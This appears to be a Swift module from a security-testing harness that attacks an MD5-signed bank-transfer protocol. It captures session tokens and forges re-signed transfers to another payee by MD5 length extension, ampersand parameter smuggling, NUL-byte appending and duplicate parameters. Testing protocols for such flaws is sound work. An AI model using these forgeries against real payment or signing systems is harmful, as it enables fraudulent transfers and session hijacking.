import CountersignSchemes
import CountersignSeal
import CountersignWire

/// form-md5: a login of some rung, then a token among signed parameters. Source: docs/protocol.md,
/// "form-md5".
struct FormMD5AttackKit: SchemeAttackKit {
    enum Logins { case signed, unsigned }

    private let ladder: LadderAttackKit
    private let logins: Logins
    private let context: SigningContext

    init(_ rung: RowProfile.LadderRung, logins: Logins, context destination: SigningContext) {
        ladder = LadderAttackKit(rung)
        self.logins = logins
        self.context = destination
    }

    func login(in exchange: RawExchange) -> CapturedLogin? { exchange.request.ladderLogin }

    func token(in exchange: RawExchange) -> CapturedToken? {
        let parameters = exchange.request.parameters
        if let token = parameters["token"], let user = parameters["userId"] {
            return CapturedToken(token: token, userID: user)
        }
        return exchange.response.flatMap { $0.loginToken() }
    }

    func login(_ login: CapturedLogin, key: AppKey?) -> RawRequest? {
        ladder.login(login, key: key).flatMap { signedIfNeeded($0, key: key) }
    }

    func login(name: String, password: String, key: AppKey) -> RawRequest? {
        ladder.login(name: name, password: password, key: key).flatMap { signedIfNeeded($0, key: key) }
    }

    func logins(name: String, password: String, key: AppKey) -> [RawRequest] {
        ladder.logins(name: name, password: password, key: key).compactMap { signedIfNeeded($0, key: key) }
    }

    func login(stored: CapturedLogin, key: AppKey) -> RawRequest? {
        ladder.login(stored: stored, key: key).flatMap { signedIfNeeded($0, key: key) }
    }

    func value(of password: String, name: String, key: AppKey) -> String? {
        ladder.value(of: password, name: name, key: key)
    }

    func token(from response: RawResponse) -> CapturedToken? { response.loginToken() }

    func transfer(_ order: TransferOrder, token: CapturedToken?, key: AppKey?) -> RawRequest? {
        guard let token, let key else { return nil }
        var request = RawRequest.transfer(form: order, namingThePayer: nil)
        request.parameters.pairs += [
            .init(name: "userId", value: token.userID), .init(name: "token", value: token.token),
        ]
        return signed(request, key: key)
    }

    func restamped(_ request: RawRequest, at now: Int64) -> RawRequest? {
        guard request.parameters["timestamp"] != nil else { return nil }
        var copy = request
        copy.parameters["timestamp"] = CivilTime(seconds: now).description
        return copy
    }

    var ambiguities: [Ambiguity] { FormMD5Ambiguities.all }

    private func signedIfNeeded(_ login: RawRequest, key: AppKey?) -> RawRequest? {
        guard logins == .signed else { return login }
        return key.flatMap { signed(login, key: $0) }
    }

    private func signed(_ request: RawRequest, key: AppKey) -> RawRequest? {
        request.signed(with: FormMD5(), as: key.id, secret: key.secret, at: context)
    }
}

/// The ambiguities of form-md5. Source: docs/protocol.md, "form-md5", and legacy's flaws of it.
enum FormMD5Ambiguities {
    static let all = [
        Ambiguity(
            "ampersand-in-value",
            sentence:
                "has its own app sign a payee that holds the victim's session, and reads it as parameters",
            source: .ownTransfer(payee: payeeText), apply: reparsed),
        Ambiguity(
            "length-extension",
            sentence:
                "carries the MD5 on behind its own padding, with a payee of its own, for each length of the "
                + "key",
            apply: lengthExtended),
        Ambiguity(
            "bytes-after-nul", sentence: "puts another order behind a NUL at the end of the body",
            apply: afterNUL),
        join.payeeInValue,
        Ambiguity("parameter-twice", sentence: "names a second payee", apply: payeeTwice),
    ]

    private static let join = UnescapedJoin { $0 == "sign" }

    /// A payee followed by all parameters that sort after `to`, with the victim's session; `w` takes up the
    /// parameters that the app itself adds.
    private static func payeeText(for order: TransferOrder, token: CapturedToken?) -> String? {
        token.map { "\(order.payee)&token=\($0.token)&userId=\($0.userID)&ver=\(BankApp.version)&w=" }
    }

    private static func reparsed(_ request: RawRequest, order: TransferOrder) -> [RawRequest] {
        guard let form = join.reparsed(request.parameters) else { return [] }
        return [request.with(form)]
    }

    /// Appends the parameters that sort after `private_key`, and the MD5 padding, to `rand`, and then the
    /// same parameters changed. Only the key's length has to be known.
    private static func lengthExtended(_ request: RawRequest, order: TransferOrder) -> [RawRequest] {
        let signed = join.sorted(request.parameters)
        guard let digest = request.parameters["sign"].flatMap(Hex.decode),
            let rand = request.parameters["rand"],
            let index = signed.firstIndex(where: { $0.name == "rand" })
        else { return [] }
        let behind = Array(signed[(index + 1)...])
        var changed = RawForm(behind)
        changed["to"] = order.payee
        let more = UnescapedJoin.text(changed.pairs, leading: true)
        let known = UnescapedJoin.text(signed).count + "&private_key=".utf8.count
        var requests: [RawRequest] = []
        for length in 1...64 {
            let (count, start) = (
                known + length, Array(rand.utf8) + UnescapedJoin.text(behind, leading: true)
            )
            guard let sign = MD5Extension.digest(continuing: digest, of: count, with: more) else { continue }
            let swallowed = RawForm.Pair(name: "rand", value: start + MD5Extension.padding(behind: count))
            let pairs =
                signed[..<index] + [swallowed] + changed.pairs + [
                    .init(name: "sign", value: Hex.encode(sign.span))
                ]
            requests.append(request.with(RawForm(Array(pairs))))
        }
        return requests
    }

    /// A C string ends at the NUL; a parser that has the length reads on.
    private static func afterNUL(_ request: RawRequest, order: TransferOrder) -> [RawRequest] {
        guard request.bodyForm != nil else { return [] }
        var copy = request
        copy.body += Array("\0&to=\(order.payee)&amount=\(order.amount)".utf8)
        return [copy]
    }

    private static func payeeTwice(_ request: RawRequest, order: TransferOrder) -> [RawRequest] {
        guard let payee = request.parameters["to"] else { return [] }
        let (genuine, other) = (
            RawForm.Pair(name: "to", value: payee), RawForm.Pair(name: "to", value: order.payee)
        )
        let rest = request.parameters.pairs.filter { $0.name != "to" }
        return [
            request.with(RawForm([genuine, other] + rest)), request.with(RawForm([other, genuine] + rest)),
        ]
    }
}

extension RawRequest {
    /// The same request with other parameters, in the place (query or body) of the present ones.
    func with(_ form: RawForm) -> RawRequest {
        var copy = self
        copy.parameters = form
        return copy
    }
}

/// Length extension: computes the MD5 of an unknown text with more bytes appended, from its MD5 and its
/// length, since the digest is the hash's whole state (Merkle–Damgård construction). Source: RFC 1321.
struct MD5Extension {
    /// The padding that MD5 appends to a text of `count` bytes.
    static func padding(behind count: Int) -> [UInt8] {
        let zeros = (119 - count % 64) % 64
        let bits = UInt64(count) * 8
        return [0x80] + [UInt8](repeating: 0, count: zeros)
            + (0..<8).map { UInt8(truncatingIfNeeded: bits >> UInt64($0 * 8)) }
    }

    /// The MD5 of (the text of `count` bytes whose MD5 is `digest`) ‖ its padding ‖ `more`. Nil where
    /// `digest` is not 16 bytes.
    static func digest(continuing digest: [UInt8], of count: Int, with more: [UInt8]) -> [UInt8]? {
        guard digest.count == 16 else { return nil }
        var state = words(digest)
        let start = count + padding(behind: count).count
        let rest = more + padding(behind: start + more.count)
        for block in stride(from: 0, to: rest.count, by: 64) {
            state = compressed(words(Array(rest[block..<block + 64])), into: state)
        }
        return state.flatMap { word in (0..<4).map { UInt8(truncatingIfNeeded: word >> UInt32($0 * 8)) } }
    }

    private static func words(_ bytes: [UInt8]) -> [UInt32] {
        stride(from: 0, to: bytes.count, by: 4).map { start in
            (0..<4).reduce(0) { $0 | UInt32(bytes[start + $1]) << UInt32($1 * 8) }
        }
    }

    private static let shifts: [[UInt32]] = [
        [7, 12, 17, 22], [5, 9, 14, 20], [4, 11, 16, 23], [6, 10, 15, 21],
    ]

    private static func compressed(_ block: [UInt32], into state: [UInt32]) -> [UInt32] {
        var (a, b, c, d) = (state[0], state[1], state[2], state[3])
        for step in 0..<64 {
            let (mixed, place): (UInt32, Int) =
                switch step / 16 {
                case 0: ((b & c) | (~b & d), step)
                case 1: ((d & b) | (~d & c), (5 * step + 1) % 16)
                case 2: (b ^ c ^ d, (3 * step + 5) % 16)
                default: (c ^ (b | ~d), 7 * step % 16)
                }
            let sum = a &+ mixed &+ constants[step] &+ block[place]
            let shift = shifts[step / 16][step % 4]
            (a, d, c, b) = (d, c, b, b &+ (sum << shift | sum >> (32 - shift)))
        }
        return [state[0] &+ a, state[1] &+ b, state[2] &+ c, state[3] &+ d]
    }
}

extension MD5Extension {
    /// The first 32 fractional bits of |sin(1)|, |sin(2)|… Source: RFC 1321 §3.4.
    private static let constants: [UInt32] = [
        0xD76AA478, 0xE8C7B756, 0x242070DB, 0xC1BDCEEE, 0xF57C0FAF, 0x4787C62A, 0xA8304613, 0xFD469501,
        0x698098D8, 0x8B44F7AF, 0xFFFF5BB1, 0x895CD7BE, 0x6B901122, 0xFD987193, 0xA679438E, 0x49B40821,
        0xF61E2562, 0xC040B340, 0x265E5A51, 0xE9B6C7AA, 0xD62F105D, 0x02441453, 0xD8A1E681, 0xE7D3FBC8,
        0x21E1CDE6, 0xC33707D6, 0xF4D50D87, 0x455A14ED, 0xA9E3E905, 0xFCEFA3F8, 0x676F02D9, 0x8D2A4C8A,
        0xFFFA3942, 0x8771F681, 0x6D9D6122, 0xFDE5380C, 0xA4BEEA44, 0x4BDECFA9, 0xF6BB4B60, 0xBEBFBC70,
        0x289B7EC6, 0xEAA127FA, 0xD4EF3085, 0x04881D05, 0xD9D4D039, 0xE6DB99E5, 0x1FA27CF8, 0xC4AC5665,
        0xF4292244, 0x432AFF97, 0xAB9423A7, 0xFC93A039, 0x655B59C3, 0x8F0CCC92, 0xFFEFF47D, 0x85845DD1,
        0x6FA87E4F, 0xFE2CE6E0, 0xA3014314, 0x4E0811A1, 0xF7537E82, 0xBD3AF235, 0x2AD7D2BB, 0xEB86D391,
    ]
}
